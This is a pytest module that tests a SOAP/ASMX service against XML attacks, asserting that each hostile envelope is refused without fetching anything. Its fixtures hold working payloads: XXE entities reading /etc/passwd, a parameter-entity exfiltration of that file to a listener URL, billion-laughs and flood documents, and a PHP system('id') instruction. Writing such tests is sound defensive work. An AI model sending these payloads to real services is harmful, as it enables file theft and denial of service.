"""SECURITY 1.5: what XML and SOAP can do to a service. Each attack is answered at once, reaches no rule and leaves
nothing in memory, and the service goes on. Where CONTRACT.md or a decision (D1 to D22) overrules a row, the test says
which.
"""

import gc
import gzip
import logging
import re
import socket
import tracemalloc
import zlib
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from xml.etree import ElementTree

import pytest
from werkzeug.test import TestResponse

from spyne_asmx import Request
from spyne_asmx.http import HeaderMap
from tests.contract.steps import in_every_binding, mint
from tests.fuzz.target import Target
from tests.support.attacks import TARGET
from tests.support.directories import run_sql
from tests.support.memory import needs_proc, resident_bytes
from tests.support.service import NAMESPACE, PASSWORD, SOAP11, SOAP12, TRUSTED_PASSWORD, Service, fault_of, root_of

LIMIT = 65_536
UNREADABLE = re.compile(r"Server was unable to read request\. ---> There is an error in XML document \(\d+, \d+\)\.")
OVER_LIMIT = re.compile(r"Server was unable to read request\. ---> The request has more than (\d+) [a-z ]+\.")
LOGIN = "<UID>jsmith</UID><PWD>x</PWD>"


def soap(
    fields: str = LOGIN,
    *,
    operation: str = "AuthenticateUser",
    before: str = "",
    header: str = "",
    after: str = "",
    attributes: str = f'xmlns="{NAMESPACE}"',
    envelope: str = SOAP11,
) -> str:
    """An envelope with room for mischief."""
    return (
        f'{before}<soap:Envelope xmlns:soap="{envelope}">{header}<soap:Body>'
        f"<{operation} {attributes}>{fields}</{operation}>{after}</soap:Body></soap:Envelope>"
    )


def attack(
    target: Target, body: str | bytes, content_type: str = "text/xml; charset=utf-8", **headers: str
) -> TestResponse:
    data = body.encode() if isinstance(body, str) else body
    return target.attack("POST", "/srv.asmx", data, Content_Type=content_type, **headers)


def is_unreadable(response: TestResponse) -> bool:
    """The fault of CONTRACT 2.4 for a body that is not well-formed or has a DTD."""
    code, text = fault_of(response)
    return response.status_code == 400 and code == "soap:Client" and UNREADABLE.fullmatch(text) is not None


def is_over_limit(response: TestResponse, limit: int | None = None) -> bool:
    """A fault that names a limit, this one where one is given, and does not blame the client's XML."""
    code, text = fault_of(response)
    said = OVER_LIMIT.fullmatch(text)
    if response.status_code != 400 or code != "soap:Client" or said is None:
        return False
    return limit is None or int(said[1]) == limit


def is_refused(response: TestResponse) -> bool:
    """A fault ``soap:Client`` about a message that could be read."""
    return response.status_code == 500 and fault_of(response)[0] == "soap:Client"


def login_asked(target: Target, body: str | bytes, content_type: str = "text/xml; charset=utf-8") -> tuple[object, ...]:
    """What a request that succeeds asks of the rules."""
    data = body.encode() if isinstance(body, str) else body
    response = target.send("POST", "/srv.asmx", data, Content_Type=content_type)
    assert response.status_code == 200, response.text
    (asked,) = target.rules.asked
    return asked


# --- X1 and X2: DTDs and entities -------------------------------------------------------------------------------------

ENTITY_LOGIN = "<UID>&x;</UID><PWD>x</PWD>"
DTDS = {
    "nothing": ("<!DOCTYPE a>", LOGIN),
    "internal entity": ('<!DOCTYPE a [<!ENTITY x "jsmith">]>', ENTITY_LOGIN),
    "unused entity": ('<!DOCTYPE a [<!ENTITY x "y">]>', LOGIN),
    "file": ('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', ENTITY_LOGIN),
    "address": ('<!DOCTYPE a [<!ENTITY x SYSTEM "{address}">]>', ENTITY_LOGIN),
    "public": ('<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{address}">', LOGIN),
    "external subset": ('<!DOCTYPE a SYSTEM "{address}">', LOGIN),
    "parameter entity": ('<!DOCTYPE a [<!ENTITY % x SYSTEM "{address}">%x;]>', LOGIN),
    "parameter entity that sends a file": (
        '<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/passwd">'
        "<!ENTITY % x \"<!ENTITY y SYSTEM '{address}?%f;'>\">%x;]>",
        "<UID>&y;</UID><PWD>x</PWD>",
    ),
    "billion laughs": (
        '<!DOCTYPE a [<!ENTITY x0 "x">'
        + "".join(f'<!ENTITY x{i + 1} "{f"&x{i};" * 10}">' for i in range(9))
        + '<!ENTITY x "&x9;">]>',
        ENTITY_LOGIN,
    ),
    "quadratic": (f'<!DOCTYPE a [<!ENTITY x "{"x" * 10_000}">]>', f"<UID>{'&x;' * 5000}</UID><PWD>x</PWD>"),
    "entity that calls itself": ('<!DOCTYPE a [<!ENTITY x "&y;"><!ENTITY y "&x;">]>', ENTITY_LOGIN),
    "attribute by default": ('<!DOCTYPE a [<!ATTLIST UID href CDATA "#a">]>', LOGIN),
    "behind a comment": ("<!-- --> \n<!DOCTYPE a>", LOGIN),
}
ENCODINGS = {
    "UTF-8": ("", "utf-8"),
    "UTF-8 with a mark": ("", "utf-8-sig"),
    "UTF-16 with a mark": ("", "utf-16"),
    "UTF-16 in the header": ("; charset=utf-16", "utf-16"),
    "UTF-16LE": ("", "utf-16-le"),
    "UTF-16BE": ("; charset=utf-16be", "utf-16-be"),
    "windows-1252": ("; charset=windows-1252", "cp1252"),
}


@pytest.fixture(scope="module")
def listener() -> Iterator[socket.socket]:
    """A server that no document may make the service call."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server


@pytest.mark.parametrize(("parameters", "codec"), ENCODINGS.values(), ids=ENCODINGS)
def test_x1_every_dtd_is_refused_and_fetches_nothing(
    target: Target, listener: socket.socket, parameters: str, codec: str
) -> None:
    """In every charset, since a search for bytes finds it in some only: 400, nothing of a file, and no connection."""
    address = f"http://127.0.0.1:{listener.getsockname()[1]}/x"
    for dtd, fields in DTDS.values():
        body = soap(fields, before=dtd.replace("{address}", address))
        for media_type in ("text/xml", "application/soap+xml"):
            response = attack(target, body.encode(codec), media_type + parameters)
            assert response.status_code == 400, response.text
            assert UNREADABLE.search(response.text.replace("&gt;", ">"))
            assert "root:" not in response.text
    with pytest.raises(BlockingIOError):
        listener.accept()


@pytest.mark.parametrize("reference", ["&x;", "&nbsp;", "&lt", "&#xFFFE;", "&#0;", "&#x110000;", "&;"])
def test_x2_an_entity_in_a_value_is_a_fault(target: Target, reference: str) -> None:
    """The parser does not leave it out and hand on ``admin``, or cut the value to ``adm``."""
    assert is_unreadable(attack(target, soap(f"<UID>adm{reference}in</UID><PWD>x</PWD>")))


# --- X3 to X5: floods -------------------------------------------------------------------------------------------------


def many(count: int, item: str) -> str:
    """So many copies of an item, each with its number for ``{}``."""
    return "".join(item.replace("{}", str(number)) for number in range(count))


def padded(body: str, size: int) -> bytes:
    """A body of exactly that many bytes."""
    return body.encode() + b" " * (size - len(body.encode()))


OURS = f'xmlns="{NAMESPACE}"'
A = " a{}=''"
PREFIXED = " p:a{}=''"
DECLARED = " xmlns:a{}='u{}'"
ATTRIBUTES = many(6000, A)
FLOODS = {
    "attributes of the envelope": soap().replace("<soap:Envelope", f"<soap:Envelope{ATTRIBUTES}"),
    "attributes of the body": soap().replace("<soap:Body", f"<soap:Body{ATTRIBUTES}"),
    "attributes of the operation": soap(attributes=OURS + ATTRIBUTES),
    "attributes of a parameter": soap(f"<UID{ATTRIBUTES}>jsmith</UID><PWD>x</PWD>"),
    "attributes of a header": soap(header=f"<soap:Header><a{ATTRIBUTES}/></soap:Header>"),
    "levels, 17": "<a>" * 17 + "</a>" * 17,
    "levels, 257": "<a>" * 257 + "</a>" * 257,
    "levels, 8,000": "<a>" * 8000 + "</a>" * 8000,
    "levels, 16,000 never closed": "<a>" * 16_000,
    "levels in a parameter": soap(f"<UID>{'<a>' * 16}{'</a>' * 16}</UID><PWD>x</PWD>"),
    "levels in a header": soap(header=f"<soap:Header>{'<a>' * 257}{'</a>' * 257}</soap:Header>"),
    "elements": soap("<a/>" * 15_000),
    "elements in a header": soap(header=f"<soap:Header>{'<a/>' * 15_000}</soap:Header>"),
    "namespaces of an element": soap(attributes=OURS + many(3000, DECLARED)),
    "namespaces of many": soap(many(2500, '<a xmlns="u{}"/>')),
    "a long namespace of many elements": soap(f"<r xmlns='{'u' * 60_000}'>{many(250, '<a{}/>')}</r>"),
    "a long namespace of many attributes": soap(f"<r xmlns:p='{'u' * 32_000}'{many(2900, PREFIXED)}/>"),
    "a long namespace of many elements' attributes": soap(
        f"<r xmlns:p='{'u' * 32_000}'>{many(90, f'<a{many(31, PREFIXED)}/>')}</r>"
    ),
    "one long instruction": f"<?x {' ' * 60_000}?>{soap()}",
    "an open comment": soap().replace("<soap:Body>", f"<soap:Body><!--{'- ' * 30_000}"),
    "an open CDATA section": soap(f"<UID><![CDATA[{']' * 60_000}"),
    "an open tag": soap(f"<UID {'a ' * 30_000}"),
    "angle brackets": "<" * LIMIT,
    "ampersands": soap("&" * 60_000),
}


LONG_VALUES = {
    "a parameter, 5,000 times": soap("<UID>x</UID>" * 5000),
    "one long value": soap(f"<UID>{'x' * 60_000}</UID><PWD>x</PWD>"),
    "one long value in references": soap(f"<UID>{'&#65;' * 12_000}</UID><PWD>x</PWD>"),
    "one long value in CDATA": soap(f"<UID>{'<![CDATA[x]]>' * 4000}{'x' * 5000}</UID><PWD>x</PWD>"),
}


@pytest.mark.parametrize("body", LONG_VALUES.values(), ids=LONG_VALUES)
def test_x5_a_parameter_is_read_to_its_limit(target: Target, body: str) -> None:
    """The fault names the parameter."""
    response = attack(target, body)
    assert is_refused(response)
    assert "The parameter UID is" in response.text


@pytest.mark.parametrize("body", FLOODS.values(), ids=FLOODS)
def test_x3_x4_x5_a_flood_within_the_size_limit_is_refused_at_once(target: Target, body: str) -> None:
    """64 KiB of attributes, levels, elements or namespaces; in UTF-16 as much of it as 64 KiB hold."""
    assert len(body.encode()) <= LIMIT
    for sent, charset in ((body.encode(), "utf-8"), (body.encode("utf-16")[: LIMIT // 2 * 2], "utf-16")):
        response = attack(target, sent, f"text/xml; charset={charset}")
        assert is_unreadable(response) or is_over_limit(response)


@pytest.mark.parametrize(
    "body",
    [
        soap(attributes=OURS + many(100_000, A)).encode(),
        b"<a>" * 30_000,
        soap("<a/>" * 200_000).encode(),
        soap("<UID>x</UID>" * 100_000).encode(),
        b"x" * 10_000_000,
        padded(soap(), LIMIT + 1),
    ],
    ids=["100,000 attributes", "30,000 levels", "200,000 elements", "100,000 parameters", "10 MB", "one byte too many"],
)
def test_x3_x4_x5_a_larger_flood_is_not_read(target: Target, body: bytes) -> None:
    """413 before any XML is looked at."""
    response = attack(target, body)
    assert response.status_code == 413


def test_x3_a_body_of_the_largest_size_is_read(target: Target) -> None:
    """The limit is 65,536 bytes, that one included."""
    assert login_asked(target, padded(soap(), LIMIT)) == ("log_in", "jsmith", "x", None)


def _deep(levels: int) -> str:
    """A login of so many levels in all, the deep ones in a header, which nobody reads."""
    inside = levels - 2
    return soap(header=f"<soap:Header>{'<a>' * inside}{'</a>' * inside}</soap:Header>")


# Envelope, Body, operation, UID and PWD are five elements; the envelope and the operation declare two namespaces.
LIMITS: dict[str, tuple[int, Callable[[int], str]]] = {
    "levels": (16, _deep),
    "elements": (10_000, lambda n: soap(LOGIN + "<a/>" * (n - 5))),
    "attributes of an element": (256, lambda n: soap(f"<UID{many(n, A)}>jsmith</UID><PWD>x</PWD>")),
    "namespaces": (256, lambda n: soap(LOGIN + f"<a{many(n - 2, DECLARED)}/>")),
}


@pytest.mark.parametrize(("limit", "document"), LIMITS.values(), ids=LIMITS)
def test_x3_x4_x5_a_document_may_reach_each_limit_and_not_pass_it(
    target: Target, limit: int, document: Callable[[int], str]
) -> None:
    """In a message that is otherwise a good login. CONTRACT 2.1 lets what is ignored be large, and so more elements,
    attributes and namespaces are allowed than the rows say."""
    assert login_asked(target, document(limit)) == ("log_in", "jsmith", "x", None)
    assert is_over_limit(attack(target, document(limit + 1)), limit)


@pytest.mark.parametrize("length", [129, 600, 2000, 20_000, 60_000])
@pytest.mark.parametrize(
    "ignored", ["<{}/>", "<x {}=''/>", "<x>{}</x>", "<x y='{}'/>", "<x xmlns='{}'/>", "<p:x xmlns:p='{}' p:y=''/>"]
)
def test_x5_what_nobody_reads_may_be_long(target: Target, ignored: str, length: int) -> None:
    """CONTRACT 2.1: only the size of the body bounds it."""
    long = ignored.format("a" * length)
    body = soap(LOGIN, header=f"<soap:Header>{long}</soap:Header>")
    assert login_asked(target, body) == ("log_in", "jsmith", "x", None)


# --- X6: SOAP encoding ------------------------------------------------------------------------------------------------

ENCODING = 'xmlns:e="http://schemas.xmlsoap.org/soap/encoding/"'


@pytest.mark.parametrize(
    "fields",
    [
        '<UID href="#a"/><PWD>x</PWD>',
        '<UID href="#a" id="a"/><PWD>x</PWD>',
        '<UID href="#a"/><PWD>x</PWD><UID id="a">jsmith</UID>',
        '<UID id="a" href="#b"/><PWD id="b" href="#a"/>',
        '<UID href="file:///etc/passwd"/><PWD>x</PWD>',
        f'<UID {ENCODING} e:arrayType="xsd:string[1000000000]">jsmith</UID><PWD>x</PWD>',
        f'<UID {ENCODING} e:arrayType="xsd:string[2147483647,2147483647]"/><PWD>x</PWD>',
    ],
)
def test_x6_references_and_arrays_are_refused(target: Target, fields: str) -> None:
    """Cycles, references to nothing, and 10^9 items are a fault ``soap:Client``."""
    assert is_refused(attack(target, soap(fields)))


def test_x6_what_soap_lite_says_of_encoding_is_ignored(target: Target) -> None:
    """SECURITY D16: encodingStyle, id and xsi:type."""
    types = 'xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:type="xsd:string"'
    body = soap(
        f"<UID {types} id='a'>jsmith</UID><PWD {types} id='a'>x</PWD>",
        envelope=f'{SOAP11}" soap:encodingStyle="{SOAP11}',
    )
    assert login_asked(target, body) == ("log_in", "jsmith", "x", None)


# --- X7 and X8: what could be read in two ways ------------------------------------------------------------------------


def body_of(content: str) -> str:
    return f'<s:Envelope xmlns:s="{SOAP11}">{content}</s:Envelope>'


ENTRY = f'<AuthenticateUser xmlns="{NAMESPACE}">{LOGIN}</AuthenticateUser>'
NO_CALLS = {
    "no body": body_of(""),
    "an empty body without an action": body_of("<s:Body/>"),
    "a body of white space": body_of("<s:Body> \n </s:Body>"),
    "a body of text": body_of("<s:Body>AuthenticateUser</s:Body>"),
    "text beside the operation": body_of(f"<s:Body>x{ENTRY}</s:Body>"),
    "a fault": body_of(
        "<s:Body><s:Fault><faultcode>s:Client</faultcode><faultstring>x</faultstring></s:Fault></s:Body>"
    ),
    "a header alone": body_of("<s:Header/>"),
    "a body of another SOAP": body_of(f'<s:Body xmlns:s="{SOAP12}">{ENTRY}</s:Body>'),
    "two bodies": body_of(f"<s:Body>{ENTRY}</s:Body><s:Body>{ENTRY}</s:Body>"),
    "an empty body, then another": body_of(f"<s:Body/><s:Body>{ENTRY}</s:Body>"),
    "two operations": body_of(f"<s:Body>{ENTRY}{ENTRY}</s:Body>"),
    "an operation, then anything": body_of(f"<s:Body>{ENTRY}<a/></s:Body>"),
    "something behind the body": body_of(f"<s:Body>{ENTRY}</s:Body><a/>"),
    "something before the body": body_of(f"<a/><s:Body>{ENTRY}</s:Body>"),
    "a header behind the body": body_of(f"<s:Body>{ENTRY}</s:Body><s:Header/>"),
    "two headers": body_of(f"<s:Header/><s:Header/><s:Body>{ENTRY}</s:Body>"),
    "the operation in a header": body_of(f"<s:Header>{ENTRY}</s:Header><s:Body/>"),
    "the operation a level deeper": body_of(f"<s:Body><a>{ENTRY}</a></s:Body>"),
    "a parameter twice": soap(LOGIN + "<UID>sysadmin</UID>"),
    "a parameter twice in another case": soap(LOGIN + "<uID>sysadmin</uID>"),
    "a parameter twice by other prefixes": soap(LOGIN + '<a:UID xmlns:a="urn:a">sysadmin</a:UID>'),
    "a parameter twice, once nil": soap(
        LOGIN + '<UID xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:nil="true"/>'
    ),
    "an element in a value": soap("<UID>adm<b>in</b></UID><PWD>x</PWD>"),
    "an empty element in a value": soap("<UID>adm<b/>in</UID><PWD>x</PWD>"),
    "a parameter in a parameter": soap("<UID>jsmith<PWD>x</PWD></UID><PWD>y</PWD>"),
    "another namespace": soap(attributes='xmlns="http://example.org/"'),
    "nearly our namespace": soap(attributes='xmlns="http://tempuri.org"'),
    "the operation in another case": soap(operation="authenticateUser"),
}

CALLS_WITH_AN_ACTION = [
    NO_CALLS[name] for name in ("an empty body without an action", "a body of white space", "the operation in a header")
]


@pytest.mark.parametrize("body", NO_CALLS.values(), ids=NO_CALLS)
def test_x7_x8_what_is_no_call_or_more_than_one_runs_none(target: Target, body: str) -> None:
    """A fault ``soap:Client``, with a SOAPAction as without; an empty Body with one is a call (CONTRACT 2.4)."""
    assert is_refused(attack(target, body))
    if body not in CALLS_WITH_AN_ACTION:
        assert is_refused(attack(target, body, SOAPAction=f'"{NAMESPACE}AuthenticateUser"'))


def test_x7_an_empty_post_is_no_document(target: Target) -> None:
    """400, as for every body that is no XML."""
    assert is_unreadable(attack(target, b""))
    assert is_unreadable(attack(target, b"", SOAPAction=f'"{NAMESPACE}ServerInfo"'))


def test_x7_an_empty_body_runs_the_action_without_parameters(target: Target) -> None:
    """CONTRACT 2.4: the rules are asked for a login without a name, and refuse it."""
    response = target.send(
        "POST",
        "/srv.asmx",
        body_of("<s:Body/>").encode(),
        Content_Type="text/xml",
        SOAPAction=f"{NAMESPACE}AuthenticateUser",
    )
    assert response.status_code == 200
    assert target.rules.asked == [("log_in", "", "", None)]


@pytest.mark.parametrize(
    "user_name",
    [
        "sys<!-- x -->admin",
        "sys<![CDATA[admin]]>",
        "<![CDATA[sys]]><![CDATA[admin]]>",
        "&#115;ysadmin",
        "sysadmi<!---->&#x6E;",
    ],
)
def test_x8_all_see_the_same_name_however_it_is_written(service: Service, user_name: str) -> None:
    """UID seen = UID logged = UID authorised: no spelling of the sysadmin's name gets a ticket."""
    body = soap(f"<UID>{user_name}</UID><PWD>Sysadmin123!</PWD>")
    response = service.http.post("/srv.asmx", data=body.encode(), content_type="text/xml")
    assert root_of(response).attrib["error"].startswith("[902]")
    assert login_asked(TARGET, body) == ("log_in", "sysadmin", "Sysadmin123!", None)


# --- X9: SOAPAction ---------------------------------------------------------------------------------------------------

CREATE = f"<TrustedUserPwd>{TRUSTED_PASSWORD}</TrustedUserPwd><UserName>jsmith</UserName>"
ADDRESSING = "http://www.w3.org/2005/08/addressing"
ACTIONS_OF_11: dict[str, tuple[str, dict[str, str]]] = {
    "quoted": ("text/xml", {"SOAPAction": f'"{NAMESPACE}LogOut"'}),
    "unquoted": ("text/xml", {"SOAPAction": f"{NAMESPACE}LogOut"}),
    "with white space": ("text/xml", {"SOAPAction": f' "{NAMESPACE}LogOut" '}),
    "without the namespace": ("text/xml", {"SOAPAction": '"CreateTicketforUser"'}),
    "in another case": ("text/xml", {"SOAPAction": f'"{NAMESPACE}createticketforuser"'}),
    "of another host": ("text/xml", {"SOAPAction": '"http://example.org/CreateTicketforUser"'}),
    "two in one": ("text/xml", {"SOAPAction": f'"{NAMESPACE}CreateTicketforUser","{NAMESPACE}LogOut"'}),
    "not ASCII": ("text/xml", {"SOAPAction": f'"{NAMESPACE}CreateTicketforUser\u00e9"'}),
    "in the header of a 1.1 envelope that says 1.2": (
        f'application/soap+xml; action="{NAMESPACE}CreateTicketforUser"',
        {"SOAPAction": f"{NAMESPACE}LogOut"},
    ),
}
ACTIONS_OF_12: dict[str, tuple[str, dict[str, str]]] = {
    "in the content type": (f'application/soap+xml; action="{NAMESPACE}LogOut"', {}),
    "in the content type, unquoted": (f"application/soap+xml; action={NAMESPACE}LogOut", {}),
    "in the content type of SOAP 1.1": (f'text/xml; action="{NAMESPACE}LogOut"', {}),
    "in both, the header's right": (
        f'application/soap+xml; action="{NAMESPACE}LogOut"',
        {"SOAPAction": f"{NAMESPACE}CreateTicketforUser"},
    ),
}
ACTIONS = {
    **{f"1.1, {name}": (SOAP11, *action) for name, action in ACTIONS_OF_11.items()},
    **{f"1.2, {name}": (SOAP12, *action) for name, action in ACTIONS_OF_12.items()},
}


@pytest.mark.parametrize(("envelope", "content_type", "headers"), ACTIONS.values(), ids=ACTIONS)
def test_x9_an_action_other_than_the_bodys_runs_nothing(
    service: Service, envelope: str, content_type: str, headers: dict[str, str]
) -> None:
    """CreateTicketforUser in the body, and as action LogOut or nothing that there is: no ticket is made, none ends."""
    ticket = mint(service)
    before = len(list(service.composition.tickets.summaries()))
    body = soap(CREATE, operation="CreateTicketforUser", envelope=envelope)
    lines = {**headers, "Authorization": f"SOTicket {ticket}"}
    response = service.http.post("/srv.asmx", data=body.encode(), content_type=content_type, headers=lines)
    assert response.status_code == 500
    assert re.search("soap:(Client|Sender)<", response.text)
    assert len(list(service.composition.tickets.summaries())) == before
    assert service.is_valid(ticket)


@pytest.mark.parametrize("action", [None, "", '""', '" "'])
def test_x9_no_action_lets_the_body_decide(target: Target, action: str | None) -> None:
    """CONTRACT 2.1 and SECURITY D9: absent or empty."""
    headers = {} if action is None else {"SOAPAction": action}
    response = target.send("POST", "/srv.asmx", soap().encode(), Content_Type="text/xml", **headers)
    assert response.status_code == 200
    assert target.rules.asked == [("log_in", "jsmith", "x", None)]


def test_x9_the_action_of_ws_addressing_routes_nothing(target: Target) -> None:
    """To the service it is an unknown header: ignored, or a fault where it must be understood."""
    for must, status in (("0", 200), ("1", 500)):
        block = f'<w:Action xmlns:w="{ADDRESSING}" soap:mustUnderstand="{must}">{NAMESPACE}LogOut</w:Action>'
        body = soap(header=f"<soap:Header>{block}</soap:Header>").encode()
        response = target.send("POST", "/srv.asmx", body, Content_Type="text/xml")
        assert response.status_code == status
        assert target.rules.asked == ([("log_in", "jsmith", "x", None)] if status == 200 else [])


# --- X10: headers, versions and media types ---------------------------------------------------------------------------


def header_of(attributes: str) -> str:
    return f'<soap:Header><a:Security xmlns:a="urn:a" {attributes}/></soap:Header>'


@pytest.mark.parametrize(
    ("attributes", "envelope", "understood"),
    [
        ('soap:mustUnderstand="1"', SOAP11, False),
        ('soap:mustUnderstand="true"', SOAP12, False),
        ('soap:mustUnderstand=" 1 "', SOAP11, False),
        ('soap:mustUnderstand="1" soap:actor="http://schemas.xmlsoap.org/soap/actor/next"', SOAP11, False),
        (f'soap:mustUnderstand="1" soap:role="{SOAP12}/role/next"', SOAP12, False),
        (f'soap:mustUnderstand="1" soap:role="{SOAP12}/role/none"', SOAP12, True),
        ('soap:mustUnderstand="1" soap:actor="urn:other"', SOAP11, True),
        ('soap:mustUnderstand="0"', SOAP11, True),
        ('mustUnderstand="1"', SOAP11, True),
        ("", SOAP12, True),
    ],
)
def test_x10_a_header_that_must_be_understood_is_not_ignored(
    target: Target, attributes: str, envelope: str, understood: bool
) -> None:
    """A fault MustUnderstand, and no rule is asked; unless the header is addressed to another node."""
    body = soap(header=header_of(attributes), envelope=envelope)
    if understood:
        assert login_asked(target, body) == ("log_in", "jsmith", "x", None)
    else:
        response = attack(target, body)
        assert response.status_code == 500
        assert "soap:MustUnderstand<" in response.text


@pytest.mark.parametrize(
    ("body", "content_type", "status", "said"),
    [
        (soap(envelope="http://schemas.xmlsoap.org/wsdl/"), "text/xml", 500, "soap:VersionMismatch"),
        (soap(envelope="http://www.w3.org/2002/12/soap-envelope"), "application/soap+xml", 500, "soap:VersionMismatch"),
        (soap().replace("soap:Envelope", "Envelope"), "text/xml", 500, "soap:VersionMismatch"),
        ("<a/>", "text/xml", 500, "soap:VersionMismatch"),
        # The order of Basic Profile R2725: the version, then headers, then the rest.
        (soap(header=header_of('soap:mustUnderstand="1"'), envelope="urn:a"), "text/xml", 500, "soap:VersionMismatch"),
        (soap(header=header_of('soap:mustUnderstand="1"'), operation="Nope"), "text/xml", 500, "soap:MustUnderstand"),
        (soap(header=header_of('soap:mustUnderstand="1"'), after="<a/>"), "text/xml", 500, "soap:MustUnderstand"),
        (soap(), "application/xml", 415, ""),
        (soap(), "text/plain", 415, ""),
        (soap(), "text/html", 415, ""),
        (soap(), "application/x-www-form-urlencoded", 415, ""),
        (soap(), "text/xml, application/soap+xml", 415, ""),
        (soap(), "text/xmlx", 415, ""),
        (soap(), "", 415, ""),
    ],
)
def test_x10_each_kind_of_wrong_message_has_its_answer(
    target: Target, body: str, content_type: str, status: int, said: str
) -> None:
    """VersionMismatch, MustUnderstand or 415, in that order where more than one would do."""
    response = attack(target, body, content_type)
    assert response.status_code == status
    assert said in response.text


def test_x10_an_envelope_is_answered_in_its_own_version(target: Target) -> None:
    """CLIENTS.md: a 1.2 envelope may come in text/xml."""
    response = target.send("POST", "/srv.asmx", soap(envelope=SOAP12).encode(), Content_Type="text/xml")
    assert response.content_type == "application/soap+xml; charset=utf-8"
    assert SOAP12 in response.text


# --- X11: charsets ----------------------------------------------------------------------------------------------------

# SECURITY D12. Python encodes the right bytes with the codec beside each name.
TAKEN = {
    "utf-8": "utf-8",
    "UTF-8": "utf-8",
    "utf-16": "utf-16",
    "utf-16le": "utf-16-le",
    "utf-16be": "utf-16-be",
    "iso-8859-1": "cp1252",
    "us-ascii": "cp1252",
    "windows-1252": "cp1252",
    "shift_jis": "cp932",
    "gb18030": "gb18030",
    "koi8-r": "koi8-r",
    "iso-8859-15": "iso-8859-15",
}
# Python has a codec for each of these but the last two.
NOT_TAKEN = {
    "utf-7": "utf-7",
    "utf-32": "utf-32",
    "unicode_escape": "unicode_escape",
    "raw_unicode_escape": "raw_unicode_escape",
    "idna": "utf-8",
    "punycode": "utf-8",
    "rot13": "utf-8",
    "base64": "utf-8",
    "zlib": "utf-8",
    "cp037": "cp037",
    "iso-2022-jp": "iso-2022-jp",
    "hz-gb-2312": "hz",
    "mbcs": "utf-8",
    "x-user-defined": "utf-8",
}
CHARSETS = TAKEN | NOT_TAKEN
# Bytes that are wrong in most charsets.
WRONG_BYTES = (b"\xff", b"\xc0\x80", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\x81\x8d", b"\x00", b"\xdc\x00", b"+AGE-")


@pytest.mark.parametrize(("charset", "codec"), CHARSETS.items())
@pytest.mark.parametrize("where", ["header", "declaration"])
def test_x11_a_client_does_not_choose_among_pythons_codecs(
    target: Target, charset: str, codec: str, where: str
) -> None:
    """Named in the header or in the document, a charset of SECURITY D12 is read, and any other is 415."""
    declaration = f'<?xml version="1.0" encoding="{charset}"?>' if where == "declaration" else ""
    body = soap(before=declaration).encode(codec)
    content_type = f'text/xml; charset="{charset}"' if where == "header" else "text/xml"
    if charset in TAKEN:
        assert login_asked(target, body, content_type) == ("log_in", "jsmith", "x", None)
    else:
        status = attack(target, body, content_type).status_code
        # A declaration that is not readable as ASCII can't name a charset: then the bytes are no document.
        assert status == 415 or (where == "declaration" and codec in {"utf-32", "cp037", "utf-7"} and status == 400)


@pytest.mark.parametrize("charset", CHARSETS)
def test_x11_wrong_bytes_are_never_repaired(target: Target, charset: str) -> None:
    """Either the charset has these bytes, and the rules see its text for them, or the answer is an error."""
    before, after = soap("<UID>{}</UID><PWD>x</PWD>").split("{}")
    for wrong in WRONG_BYTES:
        body = before.encode() + wrong + after.encode()
        response = target.send("POST", "/srv.asmx", body, Content_Type=f"text/xml; charset={charset}")
        if response.status_code == 200:
            assert target.rules.asked == [("log_in", wrong.decode(TAKEN[charset]), "x", None)]
        else:
            # What the charset has for one of these can also be a control character, or the end of the value.
            assert response.status_code in ((400, 500) if charset in TAKEN else (415,))
            assert not target.rules.asked


def test_x11_the_header_decides_before_the_declaration(target: Target) -> None:
    """CONTRACT 2.1 (the row wants them to agree): a declaration of another charset changes nothing."""
    body = soap("<UID>é</UID><PWD>x</PWD>", before='<?xml version="1.0" encoding="utf-7"?>').encode()
    assert login_asked(target, body) == ("log_in", "é", "x", None)
    assert login_asked(target, body, "text/xml; charset=iso-8859-1") == ("log_in", "Ã©", "x", None)


# --- X12: other wrappings ---------------------------------------------------------------------------------------------

MULTIPART = (
    b'--b\r\nContent-Type: application/xop+xml; type="text/xml"\r\nContent-ID: <a>\r\n\r\n'
    + soap().encode()
    + b"\r\n--b--\r\n"
)


@pytest.mark.parametrize(
    ("body", "content_type", "encoding", "status"),
    [
        (MULTIPART, 'multipart/related; boundary=b; type="text/xml"', "", 415),
        (MULTIPART, 'multipart/related; boundary=b; type="application/xop+xml"', "", 415),
        (gzip.compress(soap().encode()), "text/xml", "gzip", 415),
        (gzip.compress(b"<" * 10_000_000), "text/xml", "gzip", 415),
        (zlib.compress(soap().encode()), "text/xml", "deflate", 415),
        (soap().encode(), "text/xml", "br", 415),
        (soap().encode(), "application/soap+xml", "identity, gzip", 415),
        (gzip.compress(soap().encode()), "text/xml", "", 400),
    ],
)
def test_x12_wrapped_bodies_are_not_unwrapped(
    target: Target, body: bytes, content_type: str, encoding: str, status: int
) -> None:
    """Attachments and compressed bodies are 415; a compressed body that does not say so is no XML."""
    headers = {"Content_Encoding": encoding} if encoding else {}
    assert attack(target, body, content_type, **headers).status_code == status


@pytest.mark.parametrize(
    "body",
    [
        soap(before='<?xml-stylesheet type="text/xsl" href="http://127.0.0.1/x"?>'),
        soap("<UID>adm<?x?>in</UID><PWD>x</PWD>"),
        soap(after="<?x?>"),
        soap() + "<?x?>",
        soap(before="<?php system('id') ?>"),
    ],
)
def test_x12_processing_instructions_are_refused(target: Target, body: str) -> None:
    """BP R1009: wherever they stand."""
    assert is_unreadable(attack(target, body))


# --- X13: what XML can't carry ----------------------------------------------------------------------------------------


ODD = 'J\x0bohn\x00\x01\x1f\ufffe\uffff\ud800 "><script>&lt;]]>'
SHOWN = re.sub("[\x00-\x1f\ufffe\uffff\ud800]", "\ufffd", ODD)


@in_every_binding
def test_x13_what_xml_cant_carry_never_breaks_an_answer(service: Service, call: Callable[..., TestResponse]) -> None:
    """In whatever text the service has to show, what XML can't carry becomes U+FFFD, and the rest is escaped."""
    application = service.composition.site.endpoint.app
    parts = application.config
    application.config = replace(parts, facts={**parts.facts, "Company": ODD})
    response = call(service, "ServerInfo")
    assert response.status_code == 200
    assert root_of(response).attrib["Company"] == SHOWN


@in_every_binding
